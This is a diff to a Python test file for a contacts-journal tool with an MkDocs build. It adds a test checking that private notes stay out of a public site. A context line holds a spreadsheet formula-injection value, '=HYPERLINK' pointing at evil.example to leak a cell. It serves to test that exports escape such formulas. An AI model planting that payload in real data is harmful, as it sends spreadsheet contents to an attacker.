@@ -10,6 +10,9 @@ import gzip
 import html
 import io
 import json
+import os
+import subprocess
+import sys
 from pathlib import Path
 from urllib.parse import unquote
 
@@ -569,3 +572,28 @@ def test_a_linkedin_formula_name_round_trip(tmp_path: Path) -> None:
     assert smith["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me") Smith'
     assert (smith["company"], smith["role"]) == ("'@Acme", "'-Boss")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+
+
+def test_plain_mkdocs_build_with_public_true_in_mkdocs_yml(tmp_path: Path) -> None:
+    root = journal(
+        tmp_path / "j",
+        {
+            "contacts/ana-lucia-nunez.md": ANA.format(private='private: "1"'),
+            "mkdocs.yml": MKDOCS.replace("owner_name:", "public: true\n      owner_name:"),
+            "notes/2026-11-14-talk.md": NAMING_NOTES["title-surname"],
+        },
+    )
+    env = {k: v for k, v in os.environ.items() if not k.startswith("COFFEECHAT_")}
+    done = subprocess.run(
+        [sys.executable, "-m", "mkdocs", "build", "--site-dir", str(tmp_path / "site")],
+        cwd=root,
+        env={**env, "COFFEECHAT_TODAY": TODAY, "NO_MKDOCS_2_WARNING": "1"},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert done.returncode == 0, done.stderr
+    assert "public build: left out notes/2026-11-14-talk.md" in done.stderr
+    texts = everything(tmp_path / "site")
+    assert leaks(texts) == [] and leaks(texts, DETAILS[:2]) == []
+    assert "Bob Public" in texts["contacts/bob-public/index.html"]
